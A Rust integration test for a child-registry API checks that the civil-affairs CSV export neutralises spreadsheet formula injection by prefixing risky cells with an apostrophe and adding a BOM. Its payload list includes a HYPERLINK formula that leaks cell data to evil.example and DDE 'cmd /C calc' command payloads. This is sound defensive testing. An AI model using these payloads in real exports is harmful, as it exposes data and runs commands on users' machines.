//! Class: spreadsheet formula injection through CSV the server produces. Text a family typed (a
//! child's name) reaches the civil-affairs export; a cell starting with `=`, `+`, `-`, `@`, TAB or
//! CR would run as a formula when the file is opened in Excel or WPS. Every such cell leaves with
//! a leading `'` (OWASP), and the file starts with a UTF-8 BOM so both show the Chinese text correctly.

use api::auth::Role;
use integration_tests::{TestApp, code, field};
use serde_json::json;

const EXPORT: &str = "query($r: String!){ exportChildren(regionCode: $r){ csv columns rows } }";
const ADD: &str = "mutation($i: ChildInput!){ addChild(input: $i){ id name } }";

const DANGEROUS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点击查看\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    // Leading TAB and CR are trimmed off names, which then start with a formula character.
    "\t=2+2",
    "\r\n@A1",
];

fn child(name: &str) -> serde_json::Value {
    json!({"name": name, "sex": "MALE", "birthDate": "2017-05-01", "hukouRegionCode": "520304", "residenceRegionCode": "520102",
           "residenceTownshipCode": "520102016", "residenceSince": "2024-09-01", "movedWith": "MOTHER"})
}

#[tokio::test]
async fn names_that_start_like_formulas_leave_the_export_as_text_and_the_file_starts_with_a_bom() {
    let app = TestApp::spawn().await;
    let g = app.guardian("family@example.org").await;
    app.child(&g).born("2016-01-01").hukou("520304").lives_in("520102").await; // household and consent
    for name in DANGEROUS {
        let r = app.gql(Some(&g), ADD, json!({"i": child(name)})).await;
        assert!(r["errors"].is_null(), "{name}: {r}");
    }
    // Control characters inside a name are refused.
    let r = app.gql(Some(&g), ADD, json!({"i": child("a\tb")})).await;
    assert_eq!((code(&r), field(&r)), ("VALIDATION", "name"), "{r}");

    let ca = app.staff("ca@nanming.gov.cn", Role::CivilAffairs, None, "520102").await;
    let sup = app.staff("sup@xinhua.gov.cn", Role::ChildSupervisor, None, "520102016").await;
    for (token, region) in [(&ca, "520102"), (&sup, "520102016")] {
        let r = app.gql(Some(token), EXPORT, json!({"r": region})).await;
        let csv = r["data"]["exportChildren"]["csv"].as_str().unwrap_or_else(|| panic!("{r}"));
        assert!(csv.starts_with('\u{feff}'), "UTF-8 BOM first, for Excel and WPS");
        let mut rd = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        assert_eq!(rd.headers().expect("header").get(0), Some("record_id"), "the BOM is not part of the first column name");
        let cols: Vec<String> = serde_json::from_value(r["data"]["exportChildren"]["columns"].clone()).expect("columns");
        let name_at = cols.iter().position(|c| c == "name").expect("name column");
        let rows: Vec<csv::StringRecord> = rd.records().collect::<Result<_, _>>().expect("valid CSV");
        assert_eq!(rows.len(), DANGEROUS.len() + usize::from(region == "520102"), "{csv}");
        for row in &rows {
            for cell in row.iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula in {region}: {cell:?}");
            }
        }
        let names: Vec<&str> = rows.iter().map(|r| &r[name_at]).collect();
        for name in DANGEROUS {
            let want = format!("'{}", name.trim());
            assert!(names.contains(&want.as_str()), "{name} is kept, as text: {names:?}");
        }
    }
}
